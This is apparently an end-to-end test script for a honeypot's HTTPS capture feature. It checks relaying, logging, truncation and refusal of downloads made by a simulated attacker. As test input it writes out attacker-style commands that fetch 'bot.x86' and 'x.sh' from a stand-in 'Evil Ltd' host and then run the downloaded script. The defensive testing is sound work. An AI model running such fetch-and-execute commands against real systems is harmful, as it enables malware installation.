#!/usr/bin/env bash
# HTTPS with [capture] fetch = yes: from an SSH session on the gateway,
# curl and wget of files on an HTTPS server in the test's own "internet"
# namespace get them unchanged, relayed undecrypted through the fetcher;
# each connection is a tcpip.tls with its SNI, relayed, where it went, the
# bytes each way and the server's certificate (subject, SAN, sha256 of the
# DER as openssl computes it). More than max_bytes from the server is cut
# off and says so; a private address and a name the host cannot resolve
# are refused at once with a TLS alert, and say why.
. "$KARAKURI_SRC/tests/e2e/lib.sh"
[[ -x /usr/bin/python3 ]] || e2e_skip "python3 not installed (Debian's)"
command -v openssl >/dev/null || e2e_skip "openssl not installed"
e2e_start_ssh_frontend 10.247.0.0/16 "[capture]
fetch = yes
max_bytes = 1M
[honeynet]
pool = 1"
login() { e2e_as_attacker sshpass -p pw ssh "${SSHO[@]}" -p $port eve@"$ATT_HOST_IP" "$@"; }
ev() { "$KARAKURI" -c "$conf" events --json --type "$1"; }

e2e_internet
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=dl.example.net/O=Evil Ltd" \
  -addext "subjectAltName=DNS:dl.example.net,DNS:cdn.example.net" \
  -keyout "$E2E_TMP/key.pem" -out "$E2E_TMP/cert.pem" 2>/dev/null || e2e_fail "openssl req"
fp=$(openssl x509 -in "$E2E_TMP/cert.pem" -noout -fingerprint -sha256 | sed 's/.*=//; s/://g' | tr A-F a-f)
ip netns exec "$INET_NS" /usr/bin/python3 -u -c '
import functools, http.server, socketserver, ssl, sys
class S(http.server.ThreadingHTTPServer):
    def server_bind(self):
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = "www", 443
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[3], sys.argv[4])
s = S((sys.argv[1], 443), functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[2]))
s.socket = ctx.wrap_socket(s.socket, server_side=True)
s.serve_forever()
' "$srv" "$www" "$E2E_TMP/cert.pem" "$E2E_TMP/key.pem" </dev/null >"$E2E_TMP/https.log" 2>&1 &
e2e_defer "kill $! 2>/dev/null"
e2e_wait_for 10 curl -skf -o /dev/null "https://$srv/x.sh" || e2e_fail "the test's HTTPS server did not start"
sha() { sha256sum "$1" | cut -d' ' -f1; }

login true || e2e_fail "login"
timed() { # name command...: its exit status and how long it took
  local n=$1
  shift
  printf 's=$(date +%%s%%N); timeout 30 %s; echo %s=$? ms=$(( ($(date +%%s%%N) - s) / 1000000 ))\n' "$*" "$n"
}
script=$(timed curl curl -sk -o /tmp/c https://$srv/bot.x86)
script+=$'\n'$(timed sni curl -sk -o /tmp/n --resolve dl.example.net:443:$srv https://dl.example.net/x.sh)
script+=$'\n'$(timed wget wget -q --no-check-certificate -O /tmp/w https://$srv/bot.x86)
script+=$'\n'$(timed big curl -sk -o /tmp/big https://$srv/big.bin)
script+=$'\n'$(timed private curl -sk -o /tmp/p https://192.168.77.1/x)
# A made-up address (what a name gets when the resolver has no answer): the
# relay goes by the SNI, which resolves nowhere.
script+=$'\n'$(timed noname curl -sk -o /tmp/u --resolve nowhere.example.org:443:45.33.1.1 https://nowhere.example.org/x)
script+=$'\n'"sha256sum /tmp/c /tmp/n /tmp/w; sh /tmp/n"
out=$(login "$script" 2>"$E2E_TMP/login.err")
e2e_log "$(tr '\n' ' ' <<<"$out")"
for k in curl sni wget; do
  grep -q "^$k=0 " <<<"$out" || e2e_fail "$k: $out $(tail -5 "$E2E_TMP/login.err")"
done
for k in big private noname; do
  grep -q "^$k=[1-9]" <<<"$out" || e2e_fail "$k did not fail: $out"
done
for k in private noname; do
  (($(sed -n "s/^$k=[0-9]* ms=//p" <<<"$out") < 5000)) || e2e_fail "$k took too long: $out"
done
grep -q "$(sha "$www/bot.x86")  /tmp/c" <<<"$out" || e2e_fail "curl's file differs"
grep -q "$(sha "$www/bot.x86")  /tmp/w" <<<"$out" || e2e_fail "wget's file differs"
grep -q "$(sha "$www/x.sh")  /tmp/n" <<<"$out" || e2e_fail "the file by SNI differs"
grep -qx pwned <<<"$out" || e2e_fail "the script did not run"

sleep 1
ev tcpip.tls >"$E2E_TMP/tls.json"
want() { # what filter
  jq -se --arg s "$srv" --arg fp "$fp" "any(.[]; $2)" "$E2E_TMP/tls.json" >/dev/null ||
    e2e_fail "$1: no tcpip.tls with $2: $(cat "$E2E_TMP/tls.json")"
}
want curl '.dst_ip == $s and .relayed and .origin_ip == $s and .bytes_down > 700000 and .bytes_up > 0
  and .cert_sha256 == $fp and (.cert_subject | contains("CN=dl.example.net"))
  and (.cert_san | contains("cdn.example.net")) and .honeynet != null and (.truncated | not)'
want sni '.sni == "dl.example.net" and .relayed and .cert_sha256 == $fp'
want big '.relayed and .truncated and .bytes_down == 1048576 and .max_bytes == 1048576'
want private '.dst_ip == "192.168.77.1" and (.relayed | not) and .error == "address not allowed"'
want noname '.sni == "nowhere.example.org" and (.relayed | not) and .error == "name not resolved"'
kill -0 "$KK_PID" || e2e_fail "karakuri is gone"
e2e_log "ok"
